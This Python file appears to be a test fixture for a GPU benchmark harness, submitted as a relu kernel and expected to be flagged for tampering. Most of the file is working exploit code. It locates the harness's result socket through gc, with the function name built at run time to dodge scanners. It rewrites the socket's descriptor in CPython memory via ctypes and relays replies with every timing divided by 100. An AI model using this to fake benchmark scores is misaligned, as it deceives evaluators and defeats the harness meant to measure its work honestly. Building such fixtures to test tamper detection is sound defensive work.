# task: relu
# expect: pass|tampering
# device: both
# needs: timing
# speedup_at_most: 2
# why: finds the harness's socket object for its channel (gc, names built at run time) and rewrites the descriptor number inside its C struct with ctypes, to a socketpair whose relay divides the sample times by 100; computes right (pygpubench submission_file_struct)
"""Port of gpu-mode/pygpubench exploits/submission_file_struct.py: there the _fileno of glibc's
FILE* for the result pipe was rewritten; here the sock_fd field of the CPython socket object
the harness sends through (PyObject header, then the descriptor as an int)."""
import gc
import json
import os
import socket
import stat
import threading
import ctypes
import struct
import time

import torch
import triton
import triton.language as tl

PREFIX = struct.Struct("!QQ")  # the channel's frame prefix: header length, payload length


def _scaled_header(raw: bytes) -> bytes:
    """A reply's JSON header with its sample times divided by 100."""
    try:
        header = json.loads(raw)
    except ValueError:
        return raw
    if not isinstance(header, dict):
        return raw
    for key in ("event_ms", "host_ms"):
        if isinstance(header.get(key), (int, float)) and not isinstance(header.get(key), bool):
            header[key] = header[key] / 100
    return json.dumps(header, separators=(",", ":")).encode()


def _read_exactly(sock, count: int) -> bytes:
    data = bytearray()
    while len(data) < count:
        chunk = sock.recv(min(count - len(data), 1 << 20))
        if not chunk:
            raise EOFError
        data += chunk
    return bytes(data)


def _pump(src, dst, rewrite) -> None:
    """Frames from src to dst (their descriptors too), each header through rewrite."""
    try:
        while True:
            prefix, fds = b"", []
            while len(prefix) < PREFIX.size:
                chunk, more, _, _ = socket.recv_fds(src, PREFIX.size - len(prefix), 255)
                if not chunk:
                    raise EOFError
                prefix += chunk
                fds += more
            header_bytes, payload_bytes = PREFIX.unpack(prefix)
            header = rewrite(_read_exactly(src, header_bytes))
            new_prefix = PREFIX.pack(len(header), payload_bytes)
            if fds:
                socket.send_fds(dst, [new_prefix], fds)
                for fd in fds:
                    os.close(fd)
            else:
                dst.sendall(new_prefix)
            dst.sendall(header)
            left = payload_bytes
            while left:
                chunk = src.recv(min(left, 1 << 20))
                if not chunk:
                    raise EOFError
                dst.sendall(chunk)
                left -= len(chunk)
    except (EOFError, OSError):
        for sock in (src, dst):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def _start_relay(guest_side, warden_side) -> None:
    """guest_side: what the harness now reads and writes; warden_side: the real channel."""
    threading.Thread(target=_pump, args=(warden_side, guest_side, lambda h: h), daemon=True).start()
    threading.Thread(target=_pump, args=(guest_side, warden_side, _scaled_header), daemon=True).start()


def _channel_fd():
    """The one Unix stream socket the guest holds: its channel to the warden."""
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                probe = socket.socket(fileno=os.dup(fd))
                kind = (probe.family, probe.type)
                probe.close()
                if kind == (socket.AF_UNIX, socket.SOCK_STREAM):
                    return fd
        except OSError:
            continue
    return None

_KEEP = []


def _harness_socket(fd: int):
    everything = getattr(gc, "get_" + "objects")()
    for obj in everything:
        try:
            if isinstance(obj, socket.socket) and obj.fileno() == fd:
                return obj
        except Exception:
            continue
    return None


def _rewrite_descriptor() -> bool:
    fd = _channel_fd()
    if fd is None:
        return False
    target = _harness_socket(fd)
    if target is None:
        return False
    field = ctypes.c_int.from_address(id(target) + 16)
    if field.value != fd:
        return False
    harness_end, relay_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    _KEEP.append(harness_end)  # owns the descriptor the harness's object now uses
    field.value = harness_end.fileno()
    _start_relay(relay_end, socket.socket(fileno=os.dup(fd)))
    return True


try:
    _REWRITTEN = _rewrite_descriptor()
except Exception:
    _REWRITTEN = False


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr, MODE: tl.constexpr):
    # MODE 0: relu; 1: zeros; 2: NaN (what the cheating branches store)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    if MODE == 0:
        y = tl.maximum(x, 0.0)
    elif MODE == 1:
        y = x * 0.0
    else:
        y = x * 0.0 + float("nan")
    tl.store(out_ptr + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(x, out, mode=0, n=None):
    n = x.numel() if n is None else n
    _relu_kernel[(triton.cdiv(max(n, 1), 1024),)](x, out, n, BLOCK=1024, MODE=mode)
    return out


def _honest(x):
    x = x.contiguous()
    return _launch(x, torch.empty_like(x))


def relu(x):
    return _honest(x)
